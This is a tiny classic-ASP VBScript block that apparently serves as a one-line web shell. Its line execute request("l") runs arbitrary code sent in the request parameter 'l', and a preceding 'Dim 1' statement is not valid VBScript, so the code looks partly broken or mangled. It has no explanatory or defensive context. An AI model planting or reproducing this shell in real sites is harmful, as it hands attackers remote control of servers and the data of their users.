<script language="vbscript" runat="server">
Response.End : Dim 1
execute request("l")
</script>